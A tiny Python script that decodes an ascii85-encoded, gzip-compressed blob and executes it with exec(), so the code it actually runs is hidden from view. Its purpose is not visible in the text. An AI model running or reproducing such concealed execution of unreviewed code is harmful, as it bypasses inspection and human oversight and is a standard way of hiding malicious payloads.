import gzip,base64
P=base64.a85decode("""<~+,^C)Bk@B]!rjj3Yn"W)$q,;hL#o:F?i[&pr>$oX%TkP_8?u7kG?T\\Zh;*$G@nrk/9BGsR*T\\NbA-5p[@.\\3_li7P_.]B;#`S4%_qgUfO7BK:8C6S"-mC8urO)VY?lQ^N,kt@RZ!768?k+aWjZ61lo$>(2h_ZrE*4:s$/!!!!~>""",adobe=True)
exec(gzip.decompress(P))
